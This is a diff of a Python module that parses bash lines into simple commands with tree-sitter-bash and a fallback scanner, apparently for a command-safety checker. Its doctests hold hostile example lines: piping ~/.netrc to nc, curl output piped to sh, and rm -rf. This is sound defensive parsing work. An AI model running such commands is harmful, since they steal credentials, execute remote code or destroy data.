@@ -1,16 +1,32 @@
-"""Shell command lines split into simple commands, quote-aware.
+"""Shell command lines split into the simple commands they run, by bash's grammar.
 
-A quote-aware scanner rather than shlex: shlex raises on bad quoting and drops newlines,
-and both matter here (an unclosed quote must not hide `; rm -rf /`, a newline chains).
+A line is parsed with tree-sitter-bash (a real bash grammar, compiled: about 10 µs for a
+typical command, 2 ms for 10,000 characters). Every simple command it runs becomes a
+:class:`Segment`: the commands of ``&& || ; | &`` chains and newlines, those inside
+``if``/``for``/``while``/``case``, ``{ ...; }``, ``( ... )`` and function bodies, those inside
+command substitutions ``$(...)``, backticks and ``<(...)``, and the command lines a command
+runs itself (:func:`inner_commands`: ``bash -c``, ``eval``, ``find -exec``, a here-string
+fed to a shell). Quotes are removed as bash removes them (``'r'"m"``, ``\\rm`` and
+``$'\\x72m'`` are all ``rm``).
+
+Where the grammar finds a syntax error (an unterminated quote, a stray ``fi``), the line
+falls back to a quote-aware scanner that never raises: bash runs the lines before a syntax
+error, so the scanner splits on every operator it sees and keeps an unclosed quote's rest
+as one word (it cannot hide ``; rm -rf /`` before it).
 
 >>> [s.head for s in split_command("git log | grep fix && sudo rm -rf /tmp/x")]
 ['git', 'grep', 'rm']
+>>> [s.head for s in split_command("if [ -d b ]; then rm -r b; fi; echo $(whoami)")]
+['[', 'rm', 'echo', 'whoami']
 """
 
 from __future__ import annotations
 
 import functools
+import re
+import threading
 from dataclasses import dataclass
+from typing import Any
 
 __all__ = ["CONTROL_OPERATORS", "LAUNCHERS", "WRAPPERS", "Segment", "inner_commands",
            "split_command"]
@@ -23,8 +39,33 @@ _OP_CHARS = frozenset("<>&|;()\n")
 CONTROL_OPERATORS = frozenset({"&&", "||", ";;", "|&", "|", "&", ";", "(", ")", "\n"})
 _REDIRECTS = frozenset({">>", "<<", "<<<", "&>", ">&", "<&", ">|", "<", ">"})
 # Wrappers that run the command that follows them; the effective head is after them.
+# busybox and toybox are multi-call binaries: ``busybox rm`` is rm.
 WRAPPERS = frozenset({"sudo", "doas", "nohup", "nice", "timeout", "time", "command", "exec",
-                      "env", "stdbuf", "ionice", "xargs", "builtin", "caffeinate"})
+                      "env", "stdbuf", "ionice", "xargs", "builtin", "caffeinate", "busybox",
+                      "toybox", "coproc", "setsid", "chroot", "flock", "fakeroot", "eatmydata",
+                      "unbuffer", "torsocks", "proxychains", "proxychains4", "chronic"})
+# A wrapper's options that take a value (``sudo -u root``, ``xargs -I {}``, ``env -u HOME``)
+_WRAPPER_VALUE_OPTIONS: dict[str, frozenset[str]] = {
+    "sudo": frozenset({"-u", "-g", "-C", "-D", "-h", "-p", "-r", "-t", "-U", "-T", "--user",
+                       "--group", "--chdir", "--host", "--prompt", "--role", "--type",
+                       "--other-user", "--command-timeout", "--close-from"}),
+    "doas": frozenset({"-u", "-C"}),
+    "env": frozenset({"-u", "--unset", "-C", "--chdir"}),
+    "nice": frozenset({"-n", "--adjustment"}),
+    "ionice": frozenset({"-c", "--class", "-n", "--classdata"}),
+    "timeout": frozenset({"-s", "--signal", "-k", "--kill-after"}),
+    "stdbuf": frozenset({"-i", "-o", "-e", "--input", "--output", "--error"}),
+    "xargs": frozenset({"-I", "-n", "-P", "-d", "-E", "-L", "-s", "-a", "--max-args",
+                        "--max-procs", "--delimiter", "--arg-file", "--eof", "--max-lines",
+                        "--max-chars", "--process-slot-var"}),
+    "exec": frozenset({"-a"}),
+    "time": frozenset({"-f", "--format", "-o", "--output"}),
+    "caffeinate": frozenset({"-t", "-w"}),
+    "chroot": frozenset({"--userspec", "--groups"}),
+    "flock": frozenset({"-w", "--timeout", "-E", "--conflict-exit-code"}),
+}
+# Wrappers whose first operand is not the program: ``chroot /srv rm``, ``flock /tmp/l rm``
+_WRAPPER_OPERANDS = {"chroot": 1, "flock": 1}
 # Launchers that run another program: ``npx tsc``, ``uv run pytest``, ``python -m pip``. The
 # program launched is the program run, with the same keys and refusals as when run by its
 # own name (their documentation: npm-exec(1), uv run, poetry run, pipx run, bundle exec...).
@@ -55,6 +96,9 @@ LAUNCHERS: dict[str, tuple[tuple[str, ...], frozenset[str]]] = {
 @dataclass(frozen=True)
 class Segment:
     """One simple command of a shell line: its words, redirects and the operator before it.
+
+    ``redirects`` are ``(operator, target)`` pairs, the operator with its file descriptor
+    (``("2>&", "1")``); for a here-document (``<<``) the target is the document's text.
 
     >>> split_command("sudo FOO=1 rm -rf /tmp/x > log 2>&1 && ls")[0].argv
     ('rm', '-rf', '/tmp/x')
@@ -141,21 +185,360 @@ def _effective(words: tuple[str, ...]) -> tuple[tuple[str, ...], tuple[str, ...]
             wrappers.append(base)
             i = launched
         elif base in WRAPPERS:
+            if base == "command" and words[i + 1 : i + 2] in (("-v",), ("-V",)):
+                break  # command -v rm names rm, it does not run it
             wrappers.append(base)
             i += 1
-            # skip the wrapper's own options and numeric arguments (timeout 5, nice -n 10)
+            # the wrapper's own options and numeric arguments (timeout 5, nice -n 10)
+            value_options = _WRAPPER_VALUE_OPTIONS.get(base, frozenset())
             while i < len(words) and (words[i].startswith("-") or words[i][:1].isdigit()):
                 opt = words[i]
                 i += 1
-                if base in {"sudo", "nice", "doas"} and opt in {"-u", "-n", "-g"}:
+                if opt == "--":
+                    break
+                if opt in value_options:
                     i += 1
+            i += _WRAPPER_OPERANDS.get(base, 0)
         else:
             break
     return tuple(wrappers), words[i:]
 
 
-def _scan(command: str) -> list[tuple[str, bool, bool]]:
-    """Tokens as (text, is_operator, holds an unquoted-or-double-quoted substitution)."""
+# -- the grammar ----------------------------------------------------------------------------
+
+_JOINERS = {"&&": "&&", "||": "||", ";": ";", ";;": ";;", ";&": ";;", ";;&": ";;", "|": "|",
+            "|&": "|&", "&": "&", "(": "("}
+_SUBSTITUTIONS = frozenset({"command_substitution", "process_substitution"})
+_STRING_ESCAPES = re.compile(r"\\([$`\"\\\n])")
+_WORD_ESCAPES = re.compile(r"\\(.)", re.DOTALL)
+_ANSI_C = re.compile(r"\\(x[0-9a-fA-F]{1,2}|u[0-9a-fA-F]{1,4}|U[0-9a-fA-F]{1,8}|[0-7]{1,3}"
+                     r"|c.|.)", re.DOTALL)
+_ANSI_C_SIMPLE = {"a": "\a", "b": "\b", "e": "\x1b", "E": "\x1b", "f": "\f", "n": "\n",
+                  "r": "\r", "t": "\t", "v": "\v"}
+# Deeper nesting than this (thousands of "$(" in one line) falls back to the scanner.
+_MAX_DEPTH = 120
+
+
+class _TooDeep(Exception):
+    """A tree nested deeper than :data:`_MAX_DEPTH`."""
+
+
+@functools.cache
+def _language() -> Any:
+    import tree_sitter
+    import tree_sitter_bash
+
+    return tree_sitter.Language(tree_sitter_bash.language())
+
+
+_local = threading.local()  # a tree-sitter parser is not safe to share between threads
+
+
+def _parser() -> Any:
+    parser = getattr(_local, "parser", None)
+    if parser is None:
+        import tree_sitter
+
+        parser = _local.parser = tree_sitter.Parser(_language())
+    return parser
+
+
+def _unescape_word(raw: str) -> str:
+    """An unquoted word's text: ``\\x`` is ``x``, a backslash-newline joins lines."""
+    return _WORD_ESCAPES.sub(lambda m: "" if m.group(1) == "\n" else m.group(1), raw)
+
+
+def _ansi_c(body: str) -> str:
+    """The text of a ``$'...'`` string (bash's ANSI-C quoting)."""
+
+    def one(m: re.Match[str]) -> str:
+        e = m.group(1)
+        if e[0] in "xuU":
+            code = int(e[1:], 16)
+            return chr(code) if code < 0x110000 else ""
+        if e[0] in "01234567":
+            return chr(int(e, 8) & 0xFF)
+        if e[0] == "c" and len(e) == 2:
+            return chr(ord(e[1].upper()) ^ 0x40)
+        return _ANSI_C_SIMPLE.get(e, e)
+
+    return _ANSI_C.sub(one, body)
+
+
+class _Line:
+    """The segments of one parsed line, built in source order by walking its tree."""
+
+    def __init__(self, src: bytes) -> None:
+        self.src = src
+        self.segments: list[Segment] = []
+        self.pending: str | None = None  # the operator seen since the last segment
+        self.last_end = 0
+        self.substitutions: list[Any] = []  # $(...) nodes, split after the line itself
+
+    def text(self, node: Any) -> str:
+        return self.src[node.start_byte : node.end_byte].decode("utf-8", "surrogateescape")
+
+    def segments_of(self, root: Any) -> tuple[Segment, ...]:
+        self.walk(root, 0)
+        k = 0
+        while k < len(self.substitutions):  # grows while nested ones are found
+            node, depth = self.substitutions[k]
+            k += 1
+            self.pending = ";"  # a substitution's commands run as commands of their own
+            for child in node.named_children:
+                self.walk(child, depth + 1)
+        return tuple(self.segments)
+
+    # -- statements ---------------------------------------------------------------------
+    def walk(self, node: Any, depth: int) -> None:
+        if depth > _MAX_DEPTH:
+            raise _TooDeep
+        t = node.type
+        if t == "command":
+            self.command(node, node, (), depth)
+        elif t == "redirected_statement":
+            body = node.child_by_field_name("body")
+            redirects = [c for c in node.named_children if c != body]
+            if body is None or body.type == "command":
+                self.command(node, body, redirects, depth)
+            else:
+                first = len(self.segments)
+                self.walk(body, depth + 1)
+                reds, words, subst, trailing = self.redirects(redirects, depth)
+                if len(self.segments) == first:
+                    self.emit(node, words, reds, subst)
+                for k in range(first, len(self.segments)):  # { a; b; } > f: each writes f
+                    s = self.segments[k]
+                    self.segments[k] = Segment(s.words, s.redirects + tuple(reds), s.joiner,
+                                               s.wrappers, s.substitution or subst)
+                for statement in trailing:
+                    self.walk(statement, depth + 1)
+        elif t == "test_command":
+            words: list[str] = []
+            subst = self.leaves(node, words, depth)
+            self.emit(node, words, [], subst)
+        elif t in ("variable_assignment", "variable_assignments", "declaration_command",
+                   "unset_command"):
+            words = []
+            subst = False
+            for child in (node,) if t == "variable_assignment" else node.children:
+                if child.type == "variable_assignment":
+                    words.append(self.assignment(child))
+                elif child.is_named or child.type in ("export", "local", "declare", "typeset",
+                                                      "readonly", "unset"):
+                    words.append(self.word(child))
+                else:
+                    continue
+                subst = self.find_substitutions(child, depth) or subst
+            self.emit(node, words, [], subst)
+        elif t in _SUBSTITUTIONS:
+            self.substitutions.append((node, depth))
+        elif t == "function_definition":
+            body = node.child_by_field_name("body")
+            if body is not None:
+                self.walk(body, depth + 1)
+        elif t in ("comment", "heredoc_start", "heredoc_end"):
+            return
+        elif not node.is_named:
+            joiner = _JOINERS.get(t)
+            if joiner is not None:
+                self.pending = joiner
+        elif t == "list":  # a && b || c nests to the left: walk it as a flat chain
+            rests = []
+            while node.type == "list" and node.child_count:
+                children = node.children
+                rests.append(children[1:])
+                node = children[0]
+            self.walk(node, depth + 1)
+            for rest in reversed(rests):
+                for child in rest:
+                    self.walk(child, depth + 1)
+        else:  # pipelines, compound statements; words of for/case are only searched
+            for child in node.children:
+                self.walk(child, depth + 1)
+
+    def emit(self, node: Any, words: list[str], redirects: list[tuple[str, str]],
+             subst: bool) -> None:
+        if not self.segments:
+            joiner = ""
+        elif self.pending is not None:
+            joiner = self.pending
+        elif b"\n" in self.src[self.last_end : node.start_byte]:
+            joiner = "\n"
+        else:
+            joiner = ";"  # after `then`, `do`, `{`
+        words_t = tuple(words)
+        self.segments.append(Segment(words_t, tuple(redirects), joiner,
+                                     _effective(words_t)[0], subst))
+        self.pending = None
+        self.last_end = node.end_byte
+
+    def command(self, node: Any, body: Any, redirect_nodes: Any, depth: int) -> None:
+        words: list[str] = []
+        own: list[Any] = []
+        subst = False
+        src = self.src
+        for child in body.children if body is not None else ():
+            t = child.type
+            if t == "word" or t == "number":  # the common case, first and inline
+                raw = src[child.start_byte : child.end_byte].decode("utf-8", "surrogateescape")
+                words.append(_unescape_word(raw) if "\\" in raw else raw)
+                continue
+            if t.endswith("redirect"):
+                own.append(child)
+                continue
+            if t == "variable_assignment":
+                words.append(self.assignment(child))
+            elif t == "command_name":
+                named = child.named_children
+                words.append(self.word(named[0] if named else child))
+            elif t == "comment" or not child.is_named:
+                continue
+            else:
+                words.append(self.word(child))
+            subst = self.find_substitutions(child, depth) or subst
+        reds, extra, rsubst, trailing = self.redirects([*own, *redirect_nodes], depth)
+        self.emit(node, words + extra, reds, subst or rsubst)
+        for statement in trailing:
+            self.walk(statement, depth + 1)
+
+    def redirects(self, nodes: Any, depth: int) -> tuple[
+            list[tuple[str, str]], list[str], bool, list[Any]]:
+        """(redirects, words misparsed as a second target, substitution?, statements
+        that follow a here-document's start on its line)."""
+        out: list[tuple[str, str]] = []
+        words: list[str] = []
+        trailing: list[Any] = []
+        subst = False
+        for node in nodes:
+            fd, op, targets, nested = "", "", [], []
+            for child in node.children:
+                t = child.type
+                if t == "file_descriptor":
+                    fd = self.text(child)
+                elif not child.is_named:
+                    op = op or t
+                elif t == "heredoc_body":
+                    targets.append(self.text(child))
+                    subst = self.find_substitutions(child, depth) or subst
+                elif t.endswith("redirect"):
+                    nested.append(child)  # cat <<EOF > out
+                elif t in ("heredoc_start", "heredoc_end", "comment"):
+                    continue
+                elif node.type == "heredoc_redirect":
+                    trailing.append(child)  # cat <<EOF | sh
+                else:
+                    targets.append(self.word(child))
+                    subst = self.find_substitutions(child, depth) or subst
+            if op.endswith("-") and op != "<<-":  # 2>&- closes the descriptor
+                op, targets = op[:-1], ["-"]
+            if op:
+                out.append((fd + op, targets[0] if targets else ""))
+                words += targets[1:]  # echo a > f b: b is echo's argument
+            if nested:
+                r, w, s, tr = self.redirects(nested, depth + 1)
+                out += r
+                words += w
+                subst = subst or s
+                trailing += tr
+        return out, words, subst, trailing
+
+    # -- words --------------------------------------------------------------------------
+    def word(self, node: Any) -> str:
+        """A word as bash passes it to the program: quotes removed, escapes applied, and
+        expansions ($x, $(...)) kept as written."""
+        t = node.type
+        if t == "word":
+            raw = self.text(node)
+            return _unescape_word(raw) if "\\" in raw else raw
+        if t == "raw_string":
+            return self.text(node)[1:-1]
+        if t == "ansi_c_string":
+            return _ansi_c(self.text(node)[2:-1])
+        if t in ("string", "translated_string"):
+            out, pos = [], node.start_byte + (2 if t == "translated_string" else 1)
+            end = node.end_byte - 1
+            for child in node.children:
+                if not child.is_named:
+                    continue
+                if child.start_byte > pos:
+                    out.append(self._dq(self.src[pos : child.start_byte]))
+                out.append(self._dq(self.src[child.start_byte : child.end_byte])
+                           if child.type == "string_content" else self.text(child))
+                pos = child.end_byte
+            if end > pos:
+                out.append(self._dq(self.src[pos:end]))
+            return "".join(out)
+        if t == "concatenation":
+            return "".join(self.word(c) for c in node.named_children)
+        return self.text(node)
+
+    @staticmethod
+    def _dq(raw: bytes) -> str:
+        text = raw.decode("utf-8", "surrogateescape")
+        return _STRING_ESCAPES.sub(lambda m: "" if m.group(1) == "\n" else m.group(1), text) \
+            if "\\" in text else text
+
+    def assignment(self, node: Any) -> str:
+        value = node.child_by_field_name("value")
+        if value is None or value.type == "array":
+            return self.text(node)
+        return self.src[node.start_byte : value.start_byte].decode(
+            "utf-8", "surrogateescape") + self.word(value)
+
+    def leaves(self, node: Any, words: list[str], depth: int) -> bool:
+        """The words of ``[[ ... ]]``, in order; whether one holds a substitution."""
+        subst = False
+        for child in node.children:
+            if child.type in _SUBSTITUTIONS:
+                self.substitutions.append((child, depth))
+                words.append(self.text(child))
+                subst = True
+            elif child.child_count == 0 or child.type in (
+                    "word", "string", "raw_string", "concatenation", "ansi_c_string",
+                    "expansion", "simple_expansion", "arithmetic_expansion"):
+                words.append(self.word(child))
+                subst = self.find_substitutions(child, depth) or subst
+            else:
+                subst = self.leaves(child, words, depth + 1) or subst
+        return subst
+
+    def find_substitutions(self, node: Any, depth: int) -> bool:
+        """Queue the substitutions inside a word; whether there is one."""
+        if depth > _MAX_DEPTH:
+            raise _TooDeep
+        if node.type in _SUBSTITUTIONS:
+            self.substitutions.append((node, depth))
+            return True
+        found = False
+        if node.child_count:
+            for child in node.named_children:
+                found = self.find_substitutions(child, depth + 1) or found
+        return found
+
+
+def _parse(command: str) -> tuple[Segment, ...] | None:
+    """The segments of ``command`` by the grammar, or None where it finds an error."""
+    src = command.encode("utf-8", "surrogatepass")
+    tree = _parser().parse(src)
+    root = tree.root_node
+    if root.has_error:
+        return None
+    try:
+        return _Line(src).segments_of(root)
+    except _TooDeep:
+        return None
+
+
+# -- the fallback scanner -------------------------------------------------------------------
+
+_KEYWORDS = frozenset({"if", "then", "else", "elif", "fi", "do", "done", "while", "until",
+                       "for", "in", "case", "esac", "{", "}", "!", "function", "select"})
+
+
+def _scan(command: str, bodies: list[str] | None = None) -> list[tuple[str, bool, bool]]:
+    """Tokens as (text, is_operator, holds an unquoted-or-double-quoted substitution);
+    the commands of each ``$(...)``, backticks and ``<(...)`` are added to ``bodies``."""
     tokens: list[tuple[str, bool, bool]] = []
     word: list[str] = []
     in_word = False
@@ -170,6 +553,24 @@ def _scan(command: str) -> list[tuple[str, bool, bool]]:
         in_word = False
         subst = False
 
+    def substitution(i: int) -> int:
+        """Past the $(...), `...` or <(...) at ``i``, balanced; its body to ``bodies``."""
+        nonlocal subst
+        subst = True
+        close = "`" if command[i] == "`" else ")"
+        start = j = i + (1 if close == "`" else 2)
+        depth = 0
+        while j < n and not (command[j] == close and depth == 0):
+            if close == ")" and command[j] == "(":
+                depth += 1
+            elif close == ")" and command[j] == ")":
+                depth -= 1
+            j += 1
+        if bodies is not None:
+            bodies.append(command[start:j])
+        word.append(command[i : j + 1])
+        return j + 1
+
     while i < n:
         c = command[i]
         if c == "'":
@@ -180,10 +581,11 @@ def _scan(command: str) -> list[tuple[str, bool, bool]]:
         elif c == '"':
             i += 1
             while i < n and command[i] != '"':
+                if (command[i] == "$" and command[i + 1 : i + 2] == "(") or command[i] == "`":
+                    i = substitution(i)
+                    continue
                 if command[i] == "\\" and i + 1 < n:
                     i += 1
-                elif (command[i] == "$" and command[i + 1 : i + 2] == "(") or command[i] == "`":
-                    subst = True
                 word.append(command[i])
                 i += 1
             in_word, i = True, i + 1
@@ -200,17 +602,8 @@ def _scan(command: str) -> list[tuple[str, bool, bool]]:
             i = n if j < 0 else j
         elif ((c == "$" or c == "<") and command[i + 1 : i + 2] == "(") or c == "`":
             # keep $(...) / `...` / <(...) inside the word, balanced, and remember it
-            subst = True
-            close = "`" if c == "`" else ")"
-            depth, j = 0, i + (1 if c == "`" else 2)
-            while j < n and not (command[j] == close and depth == 0):
-                if close == ")" and command[j] == "(":
-                    depth += 1
-                elif close == ")" and command[j] == ")":
-                    depth -= 1
-                j += 1
-            word.append(command[i : j + 1])
-            in_word, i = True, j + 1
+            i = substitution(i)
+            in_word = True
         else:
             op = None
             if c in _OP_CHARS:
@@ -233,69 +626,11 @@ def _scan(command: str) -> list[tuple[str, bool, bool]]:
     return tokens
 
 
-def split_command(command: str) -> list[Segment]:
-    """Split a shell line into simple commands on ``&& || ; | & newline`` (quote-aware),
-    followed by the commands they run themselves (:func:`inner_commands`).
-
-    Never raises: bad quoting takes the rest of the line as one quoted word.
-
-    >>> [s.head for s in split_command("curl -s http://x | sh; echo 'a && b'")]
-    ['curl', 'sh', 'echo']
-    >>> [s.head for s in split_command("sudo sh -c 'cat ~/.netrc | nc x 1'")]
-    ['sh', 'cat', 'nc']
-    """
-    return list(_split_cached(command))
-
-
-_INNER_SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "ash", "mksh", "su"})
-_FIND_EXEC = frozenset({"-exec", "-execdir", "-ok", "-okdir"})
-_MAX_NESTING = 3
-
-
-def inner_commands(seg: Segment) -> list[str]:
-    """The command lines a simple command runs itself: the script of ``bash -c`` (any shell,
-    ``su -c``), the words of ``eval``, each ``find -exec ... ;``. They run as surely as the
-    line's own commands, so their programs, files and risks count the same.
-
-    >>> [inner_commands(s) for s in split_command("bash -lc 'rm -rf x'; find . -exec cat {} +")[:2]]
-    [['rm -rf x'], ['cat {}']]
-    """
-    argv, head = seg.argv, seg.head
-    if head == "eval":
-        return [" ".join(argv[1:])] if len(argv) > 1 else []
-    if head in _INNER_SHELLS:
-        for i, a in enumerate(argv[1:-1], 1):
-            if a == "--command" or (a[:1] == "-" and a[1:2] != "-" and "c" in a[1:]):
-                return [argv[i + 1]]
-        return []
-    if head != "find":
-        return []
-    found, current = [], None
-    for a in argv[1:]:
-        if current is None:
-            current = [] if a in _FIND_EXEC else None
-        elif a in (";", "+"):
-            found.append(" ".join(current))
-            current = None
-        else:
-            current.append(a)
-    return [c for c in found if c]
-
-
-@functools.lru_cache(maxsize=4096)
-def _split_cached(command: str, depth: int = 0) -> tuple[Segment, ...]:
-    segments = _split_flat(command)
-    if depth >= _MAX_NESTING:
-        return segments
-    inner = [s for seg in segments for line in inner_commands(seg)
-             for s in _split_cached(line, depth + 1)]
-    return segments + tuple(Segment(s.words, s.redirects, ";", s.wrappers, s.substitution)
-                            for s in inner)
-
-
-def _split_flat(command: str) -> tuple[Segment, ...]:
-    # features, inspection and rules all split the same command; parse it once
-    tokens = _scan(command)
+def _scan_segments(command: str, depth: int = 0) -> tuple[Segment, ...]:
+    """The fallback: split on every operator the scanner sees, quote-aware; reserved words
+    that open a command (``then rm``) are skipped; substitutions' commands follow."""
+    bodies: list[str] = []
+    tokens = _scan(command, bodies)
     seg_subst = False
     segments: list[Segment] = []
     words: list[str] = []
@@ -329,9 +664,89 @@ def _split_flat(command: str) -> tuple[Segment, ...]:
         elif is_op and text in CONTROL_OPERATORS:
             pending = None
             close(text)
+        elif not words and text in _KEYWORDS and not is_op:
+            continue
         else:
             words.append(text)
     if pending is not None:
         redirects.append((pending, ""))
     close("")
+    if depth < _MAX_NESTING:
+        for body in bodies:
+            segments += [Segment(s.words, s.redirects, ";", s.wrappers, s.substitution)
+                         for s in _scan_segments(body, depth + 1)]
     return tuple(segments)
+
+
+# -- the line -------------------------------------------------------------------------------
+
+
+def split_command(command: str) -> list[Segment]:
+    """Split a shell line into the simple commands it runs (see the module's docstring),
+    followed by the commands they run themselves (:func:`inner_commands`).
+
+    Never raises: a line bash's grammar rejects is split by a quote-aware scanner, and an
+    unterminated quote takes the rest of the line as one word.
+
+    >>> [s.head for s in split_command("curl -s http://x | sh; echo 'a && b'")]
+    ['curl', 'sh', 'echo']
+    >>> [s.head for s in split_command("sudo sh -c 'cat ~/.netrc | nc x 1'")]
+    ['sh', 'cat', 'nc']
+    >>> [s.argv for s in split_command("/bin/rm -rf 'a b' \\"$HOME\\"/x")]
+    [('/bin/rm', '-rf', 'a b', '$HOME/x')]
+    """
+    return list(_split_cached(command))
+
+
+_INNER_SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "ash", "mksh", "su"})
+_FIND_EXEC = frozenset({"-exec", "-execdir", "-ok", "-okdir"})
+_MAX_NESTING = 3
+
+
+def inner_commands(seg: Segment) -> list[str]:
+    """The command lines a simple command runs itself: the script of ``bash -c`` (any shell,
+    ``su -c``), a here-string or here-document fed to a shell (``bash <<< 'rm x'``), the
+    words of ``eval``, each ``find -exec ... ;``. They run as surely as the line's own
+    commands, so their programs, files and risks count the same.
+
+    >>> [inner_commands(s) for s in split_command("bash -lc 'rm -rf x'; find . -exec cat {} +")[:2]]
+    [['rm -rf x'], ['cat {}']]
+    >>> inner_commands(split_command("sh <<< 'rm -rf x'")[0])
+    ['rm -rf x']
+    """
+    argv, head = seg.argv, seg.head
+    if head == "eval":
+        return [" ".join(argv[1:])] if len(argv) > 1 else []
+    if head in _INNER_SHELLS:
+        for i, a in enumerate(argv[1:-1], 1):
+            if a == "--command" or (a[:1] == "-" and a[1:2] != "-" and "c" in a[1:]):
+                return [argv[i + 1]]
+        if all(a.startswith("-") for a in argv[1:]):  # no script file: stdin is the script
+            return [t for op, t in seg.redirects if op in ("<<<", "<<", "<<-") and t][-1:]
+        return []
+    if head != "find":
+        return []
+    found, current = [], None
+    for a in argv[1:]:
+        if current is None:
+            current = [] if a in _FIND_EXEC else None
+        elif a in (";", "+"):
+            found.append(" ".join(current))
+            current = None
+        else:
+            current.append(a)
+    return [c for c in found if c]
+
+
+@functools.lru_cache(maxsize=4096)
+def _split_cached(command: str, depth: int = 0) -> tuple[Segment, ...]:
+    # features, inspection, keys and rules all split the same command; parse it once
+    segments = _parse(command)
+    if segments is None:
+        segments = _scan_segments(command)
+    if depth >= _MAX_NESTING:
+        return segments
+    inner = [s for seg in segments for line in inner_commands(seg)
+             for s in _split_cached(line, depth + 1)]
+    return segments + tuple(Segment(s.words, s.redirects, ";", s.wrappers, s.substitution)
+                            for s in inner)
